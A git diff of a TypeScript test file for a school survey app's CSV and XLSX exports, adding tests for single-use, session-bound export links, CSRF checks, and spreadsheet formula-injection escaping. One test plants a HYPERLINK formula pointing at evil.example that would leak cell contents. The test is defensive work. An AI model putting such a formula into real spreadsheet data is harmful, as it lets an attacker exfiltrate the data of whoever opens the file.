@@ -2,6 +2,7 @@ import { gunzipSync, inflateSync } from "node:zlib";
 import ExcelJS from "exceljs";
 import { afterAll, beforeAll, describe, expect, test } from "vitest";
 import { createApp } from "../server/app.ts";
+import { neutralizeCell } from "../server/exports/csv.ts";
 import { openSqliteStore } from "../server/store/sqlite.ts";
 import type { Store } from "../server/store/store.ts";
 import { parseCsv } from "../server/units/parse-csv.ts";
@@ -15,7 +16,7 @@ import {
   postJson,
   tempDir,
 } from "./helpers.ts";
-import { type Agent, addAccount, signIn } from "./manager-helpers.ts";
+import { type Agent, addAccount, download, signIn } from "./manager-helpers.ts";
 
 const dir = tempDir();
 const clock = fixedClock(DURING);
@@ -96,7 +97,7 @@ afterAll(async () => {
 
 describe("GET /api/campaigns/:id/export.csv", () => {
   test("is UTF-8 with a BOM and parses back to the stored answers, Vietnamese intact, with no access codes", async () => {
-    const res = await manager.request(`/api/campaigns/${staffCampaign}/export.csv?unit=XA`);
+    const res = await download(manager, staffCampaign, "csv", "XA");
     expect(res.status).toBe(200);
     expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
     expect(res.headers.get("content-disposition")).toMatch(
@@ -121,7 +122,7 @@ describe("GET /api/campaigns/:id/export.csv", () => {
   });
 
   test("lists only released responses: a school under the anonymity threshold has no rows at all", async () => {
-    const text = await (await manager.request(`/api/campaigns/${parentCampaign}/export.csv`)).text();
+    const text = await (await download(manager, parentCampaign, "csv")).text();
     const [header = [], ...rows] = parseCsv(text.replace(/^\uFEFF/, "")).filter((r) => r.length > 1);
     const units = rows.map((r) => r[header.indexOf("unit_code")]);
     expect(units.filter((u) => u === "THCS-BC")).toHaveLength(8);
@@ -131,11 +132,8 @@ describe("GET /api/campaigns/:id/export.csv", () => {
   });
 
   test("?unit= a withheld school gives its header row alone, for staff and parents alike", async () => {
-    for (const path of [
-      `/api/campaigns/${parentCampaign}/export.csv?unit=MN-DT`,
-      `/api/campaigns/${staffCampaign}/export.csv?unit=MN-DT`,
-    ]) {
-      const res = await manager.request(path);
+    for (const campaign of [parentCampaign, staffCampaign]) {
+      const res = await download(manager, campaign, "csv", "MN-DT");
       expect(res.status).toBe(200);
       const rows = parseCsv((await res.text()).replace(/^\uFEFF/, "")).filter((r) => r.length > 1);
       expect(rows).toHaveLength(1);
@@ -160,9 +158,10 @@ describe("GET /api/campaigns/:id/export.csv", () => {
   ])(
     "with Accept-Encoding %j sends content-encoding %j, the same CSV either way",
     async (accept, encoding) => {
-      const path = `/api/campaigns/${staffCampaign}/export.csv?unit=XA`;
-      const plain = new Uint8Array(await (await manager.request(path)).arrayBuffer());
-      const res = await manager.request(path, { headers: { "accept-encoding": accept } });
+      const plain = new Uint8Array(await (await download(manager, staffCampaign, "csv", "XA")).arrayBuffer());
+      const res = await download(manager, staffCampaign, "csv", "XA", {
+        headers: { "accept-encoding": accept },
+      });
       expect(res.status).toBe(200);
       expect(res.headers.get("content-encoding")).toBe(encoding);
       expect(res.headers.get("vary")).toMatch(/Accept-Encoding/);
@@ -173,7 +172,7 @@ describe("GET /api/campaigns/:id/export.csv", () => {
   );
 
   test("the .xlsx version holds the same rows", async () => {
-    const res = await manager.request(`/api/campaigns/${staffCampaign}/export.xlsx?unit=XA`);
+    const res = await download(manager, staffCampaign, "xlsx", "XA");
     expect(res.status).toBe(200);
     const workbook = new ExcelJS.Workbook();
     await workbook.xlsx.load(await res.arrayBuffer());
@@ -186,6 +185,87 @@ describe("GET /api/campaigns/:id/export.csv", () => {
     await addAccount(store, "xem", "viewer", "XA", clock.now());
     const viewer = await signIn(app, "xem");
     expect((await viewer.request(`/api/campaigns/${staffCampaign}/results?unit=XA`)).status).toBe(200);
-    expect((await viewer.request(`/api/campaigns/${staffCampaign}/export.csv?unit=XA`)).status).toBe(403);
+    expect((await download(viewer, staffCampaign, "csv", "XA")).status).toBe(403);
+  });
+});
+
+describe("exports are not started by a cross-site link", () => {
+  test("a plain GET of the export (what another site's link or image triggers) is refused and logs nothing", async () => {
+    const before = await store.countRows();
+    const res = await manager.request(`/api/campaigns/${staffCampaign}/export.csv?unit=XA`);
+    expect(res.status).toBe(403);
+    expect((await res.json()).error.code).toBe("export_link");
+    expect(await store.countRows()).toEqual(before);
+  });
+
+  test("a link works only for its session, campaign, unit and format, and for a minute", async () => {
+    const res = await manager.request(`/api/campaigns/${staffCampaign}/export-link`, {
+      method: "POST",
+      json: { format: "csv", unit: "XA" },
+    });
+    expect(res.status).toBe(200);
+    const { url } = (await res.json()) as { url: string };
+    const other = await signIn(app, "bgh");
+    const token = new URL(url, "http://x").searchParams.get("token");
+    expect((await other.request(url)).status).toBe(403);
+    expect((await manager.request(url.replace("export.csv", "export.xlsx"))).status).toBe(403);
+    expect((await manager.request(url.replace("unit=XA", "unit=TH-MC"))).status).toBe(403);
+    expect(
+      (await manager.request(`/api/campaigns/${parentCampaign}/export.csv?unit=XA&token=${token}`)).status,
+    ).toBe(403);
+    clock.set(new Date(Date.parse(DURING) + 61_000).toISOString());
+    expect((await manager.request(url)).status).toBe(403);
+    clock.set(DURING);
+    expect((await manager.request(url)).status).toBe(200);
+  });
+
+  test("a link is asked for with the CSRF header, like every other change", async () => {
+    const res = await app.request(`/api/campaigns/${staffCampaign}/export-link`, {
+      method: "POST",
+      headers: { cookie: manager.cookie, "content-type": "application/json" },
+      body: JSON.stringify({ format: "csv" }),
+    });
+    expect(res.status).toBe(403);
+    expect((await res.json()).error.code).toBe("csrf");
+  });
+});
+
+describe("cells a spreadsheet would run as formulas", () => {
+  test.each([
+    ["=1+2", "'=1+2"],
+    ["+84 912", "'+84 912"],
+    ["-2+3", "'-2+3"],
+    ["@SUM(A1)", "'@SUM(A1)"],
+    ["\t=1", "'\t=1"],
+    ["\r=1", "'\r=1"],
+    ["-3", "-3"],
+    ["-1.5", "-1.5"],
+    ["Tốt = 5", "Tốt = 5"],
+    ["", ""],
+  ])("%j is written as %j", (value, safe) => {
+    expect(neutralizeCell(value)).toBe(safe);
+  });
+
+  test("a respondent's formula reaches CSV and XLSX as text with a leading apostrophe", async () => {
+    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")';
+    await store.campaigns.addCodes(staffCampaign, "TH-MC", "staff", ["EXPFORMULA1"], clock.now());
+    const answers = { ...allRatings(staffForm, 3), suggestions: formula };
+    const sentRes = await postJson(app, "/api/a/EXPFORMULA1/responses", { answers, clientId: "formula-1" });
+    expect(sentRes.status).toBe(201);
+    const text = await (await download(manager, staffCampaign, "csv", "XA")).text();
+    const [header = [], ...rows] = parseCsv(text.replace(/^\uFEFF/, "")).filter((r) => r.length > 1);
+    const cells = rows.map((r) => r[header.indexOf("suggestions")]);
+    expect(cells).toContain(`'${formula}`);
+    expect(cells).not.toContain(formula);
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(await (await download(manager, staffCampaign, "xlsx", "XA")).arrayBuffer());
+    const sheet = workbook.worksheets[0];
+    const col = header.indexOf("suggestions") + 1;
+    const values = Array.from(
+      { length: sheet?.rowCount ?? 0 },
+      (_, i) => sheet?.getRow(i + 1).getCell(col).value,
+    );
+    expect(values).toContain(`'${formula}`);
+    expect(values).not.toContain(formula);
   });
 });
